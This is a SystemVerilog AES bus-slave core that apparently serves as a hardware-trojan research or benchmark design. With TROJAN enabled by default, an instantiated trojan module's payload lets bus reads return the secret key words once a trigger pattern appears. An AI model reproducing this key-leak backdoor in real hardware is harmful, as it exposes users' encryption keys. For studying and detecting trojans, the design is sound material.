// avs_aes_core -- the protected third-party AES core: a memory-mapped bus
// slave with a 32 x 32-bit address space (see avs_pkg for the map).
//
// Use: write the key words (addresses 0..NK-1) and the four data words
// (8..11), then write the control word with key_valid (bit 7) to expand
// the key and enc (bit 0) or dec (bit 1) to process the block; both may be
// set in the same write, key_valid must stay set. The enc/dec bit clears
// itself when the result is in the result space (12..15); with irq enable
// (bit 6) set, avs_s1_irq then rises and stays high until the control word
// is next read or written. Reads have a latency of one clock; reading the
// write-only space (0..11) returns the control word, reserved space
// returns zero, only the four used control bits are stored.
// avs_s1_waitrequest is raised for a read of the result space while an
// operation is still running; the read data is then not updated.
// Key expansion takes 4*(NR+1)-NK clocks; an operation NR clocks after the
// start clock (the bus cycle of 10, 12 or 14 clocks).
//
// The map, the control bits by name, the start sequence and the bus cycle
// length follow the document; handshake, interrupt clearing, read latency
// and the controller states are this design's choices. With TROJAN = 1
// the core carries the hth_trojan, whose payload opens the key space to
// reads. Asynchronous active-high reset.
module avs_aes_core
  import aes_pkg::*;
  import avs_pkg::*;
#(
  parameter int unsigned KEY_BITS        = 128,
  parameter bit          TROJAN          = 1'b1,
  parameter logic [23:0] TRIGGER_PATTERN = 24'h5AC396
) (
  input  logic              clk,
  input  logic              reset,
  input  logic [ADDR_W-1:0] avs_s1_address,
  input  logic [DATA_W-1:0] avs_s1_writedata,
  input  logic              avs_s1_write,
  input  logic              avs_s1_read,
  output logic [DATA_W-1:0] avs_s1_readdata,
  output logic              avs_s1_waitrequest,
  output logic              avs_s1_irq
);
  localparam int unsigned NK = KEY_BITS / 32;
  localparam int unsigned NR = NK + 6;

  typedef enum logic [1:0] {S_IDLE, S_WAIT_KEY, S_RUN} state_t;
  state_t state;

  word_t  key_q  [8];
  word_t  data_q [4];
  word_t  res_q  [4];
  logic   enc_q, dec_q, irq_en_q, key_valid_q;

  logic   ke_start, ke_ready;
  logic   dp_start, dp_busy, dp_done;
  logic [$clog2(NK+7)-1:0] rk_idx;
  block_t rk, dp_out;
  logic   payload;

  wire [DATA_W-1:0] ctrl_word = {24'h0, key_valid_q, irq_en_q, 4'h0, dec_q, enc_q};
  wire busy = (state != S_IDLE) || enc_q || dec_q || dp_busy;

  assign avs_s1_waitrequest = avs_s1_read && is_result(avs_s1_address) && busy;

  // key_valid rising edge starts the key expansion
  assign ke_start = avs_s1_write && avs_s1_address == CTRL_ADDR &&
                    avs_s1_writedata[CTRL_KEY_VALID] && !key_valid_q;

  aes_key_expansion #(.NK(NK)) u_key_exp (
    .clk, .reset, .start_i(ke_start), .key_i(key_q),
    .rk_idx_i(rk_idx), .rk_o(rk), .ready_o(ke_ready)
  );

  aes_datapath #(.NK(NK)) u_datapath (
    .clk, .reset, .start_i(dp_start), .decrypt_i(dec_q),
    .block_i({data_q[0], data_q[1], data_q[2], data_q[3]}),
    .rk_i(rk), .rk_idx_o(rk_idx), .block_o(dp_out),
    .busy_o(dp_busy), .done_o(dp_done)
  );

  generate
    if (TROJAN) begin : g_trojan
      hth_trojan #(.TRIGGER_PATTERN(TRIGGER_PATTERN), .BUS_CYCLE(NR)) u_hth (
        .clk, .reset, .read(avs_s1_read), .write(avs_s1_write),
        .address(avs_s1_address), .writedata(avs_s1_writedata),
        .armed_o(), .payload_o(payload)
      );
    end else begin : g_clean
      assign payload = 1'b0;
    end
  endgenerate

  // controller: wait for a requested operation, for the key, then run
  assign dp_start = (state == S_WAIT_KEY) && ke_ready && key_valid_q && !ke_start;

  always_ff @(posedge clk or posedge reset) begin
    if (reset) begin
      state <= S_IDLE;
    end else begin
      case (state)
        S_IDLE:     if (enc_q || dec_q) state <= S_WAIT_KEY;
        S_WAIT_KEY: if (dp_start) state <= S_RUN;
        S_RUN:      if (dp_done) state <= S_IDLE;
        default:    state <= S_IDLE;
      endcase
    end
  end

  // bus writes, control bits, result capture, interrupt
  always_ff @(posedge clk or posedge reset) begin
    if (reset) begin
      for (int i = 0; i < 8; i++) key_q[i] <= '0;
      for (int i = 0; i < 4; i++) begin
        data_q[i] <= '0;
        res_q[i]  <= '0;
      end
      enc_q       <= 1'b0;
      dec_q       <= 1'b0;
      irq_en_q    <= 1'b0;
      key_valid_q <= 1'b0;
      avs_s1_irq  <= 1'b0;
    end else begin
      if (dp_done) begin
        {res_q[0], res_q[1], res_q[2], res_q[3]} <= dp_out;
        enc_q <= 1'b0;
        dec_q <= 1'b0;
        if (irq_en_q) avs_s1_irq <= 1'b1;
      end
      if (avs_s1_read && avs_s1_address == CTRL_ADDR) avs_s1_irq <= 1'b0;
      if (avs_s1_write) begin
        if (is_key(avs_s1_address) && avs_s1_address < ADDR_W'(NK))
          key_q[avs_s1_address[2:0]] <= avs_s1_writedata;
        else if (avs_s1_address >= DATA_BASE && avs_s1_address < RESULT_BASE)
          data_q[avs_s1_address[1:0]] <= avs_s1_writedata;
        else if (avs_s1_address == CTRL_ADDR) begin
          key_valid_q <= avs_s1_writedata[CTRL_KEY_VALID];
          irq_en_q    <= avs_s1_writedata[CTRL_IRQ_EN];
          avs_s1_irq  <= 1'b0;
          if (!busy) begin
            enc_q <= avs_s1_writedata[CTRL_ENC];
            dec_q <= avs_s1_writedata[CTRL_DEC] && !avs_s1_writedata[CTRL_ENC];
          end
        end
      end
    end
  end

  // read port, one clock of latency
  always_ff @(posedge clk or posedge reset) begin
    if (reset) begin
      avs_s1_readdata <= '0;
    end else if (avs_s1_read && !avs_s1_waitrequest) begin
      if (is_key(avs_s1_address) && payload)
        avs_s1_readdata <= key_q[avs_s1_address[2:0]];
      else if (is_write_only(avs_s1_address))
        avs_s1_readdata <= ctrl_word;
      else if (is_result(avs_s1_address))
        avs_s1_readdata <= res_q[avs_s1_address[1:0]];
      else if (avs_s1_address == CTRL_ADDR)
        avs_s1_readdata <= ctrl_word;
      else
        avs_s1_readdata <= '0;
    end
  end

endmodule
